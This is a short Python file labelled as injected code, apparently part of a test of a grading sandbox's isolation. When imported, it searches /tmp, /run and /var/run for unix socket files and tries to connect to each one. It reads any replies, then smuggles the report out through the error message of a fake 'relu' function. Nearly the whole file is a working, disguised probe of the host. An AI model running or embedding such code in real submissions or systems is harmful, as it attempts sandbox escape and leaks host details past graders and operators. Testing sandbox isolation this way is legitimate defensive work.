# --- injected: reach the grading machine's unix sockets by path (a root-only one, anybody's) and report --
import errno as _errno
import json as _json
import os as _os
import socket as _socket
import stat as _stat

# What a student learns from an earlier run, a forum post or the kit's source: filled in by the test.
_TOLD = {}


def _sockets_on_disk(limit=30):
    """Socket files under /tmp, /run and /var/run (three folders deep), as a student would list them."""
    found = []
    for top in ("/tmp", "/run", "/var/run"):
        for folder, dirs, files in _os.walk(top):
            if folder.count("/") - top.count("/") >= 3:
                dirs[:] = []
            for name in files:
                path = _os.path.join(folder, name)
                try:
                    if _stat.S_ISSOCK(_os.lstat(path).st_mode):
                        found.append(path)
                except OSError:
                    pass
                if len(found) >= limit:
                    return found
    return found


def _attack():
    report = {"found": 0, "tried": 0, "connected": [], "replies": [], "errors": []}
    found = _sockets_on_disk()
    report["found"] = len(found)
    errors = set()
    for path in list(_TOLD.get("unix", [])) + found:
        report["tried"] += 1
        try:
            s = _socket.socket(_socket.AF_UNIX, _socket.SOCK_STREAM)
        except OSError as exc:
            errors.add(_errno.errorcode.get(exc.errno, str(exc.errno)))
            continue
        try:
            s.settimeout(0.5)
            s.connect(path)
            report["connected"].append(path[-40:])
            report["replies"].append(s.recv(32).decode("latin-1")[:20])
        except OSError as exc:
            errors.add(_errno.errorcode.get(exc.errno, str(exc.errno)) if exc.errno else type(exc).__name__)
        finally:
            s.close()
    report["connected"] = report["connected"][:3]
    report["replies"] = report["replies"][:3]
    report["errors"] = sorted(errors)
    return report


_REPORT = _attack()


def relu(x):
    raise ValueError("UNIX:" + _json.dumps(_REPORT, separators=(",", ":")))
